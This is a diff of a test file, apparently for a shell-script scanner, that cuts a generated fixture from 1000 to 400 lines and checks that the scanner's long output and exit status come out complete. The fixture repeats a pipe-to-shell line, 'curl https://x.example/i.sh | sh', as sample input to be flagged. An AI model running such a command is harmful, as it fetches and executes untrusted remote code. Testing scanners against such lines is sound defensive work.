@@ -23,15 +23,15 @@ it("writeAllSync writes all bytes to a descriptor, and returns null or the error
   closeSync(reading);
 });
 
-const FINDINGS = "for i in $(seq 1000); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";
+const FINDINGS = "for i in $(seq 400); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";
 
 it.each([
   ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
   ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
 ])("a long output is written completely to %s, and the exit status is correct", async (_, line) => {
   const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
-  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(1000);
-  expect(stdout).toMatch(/1000 findings in 1 of 1 text\n1\n$/);
+  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(400);
+  expect(stdout).toMatch(/400 findings in 1 of 1 text\n1\n$/);
 });
 
 it("a reader that closes the output early causes no message and does not change the exit status", async () => {
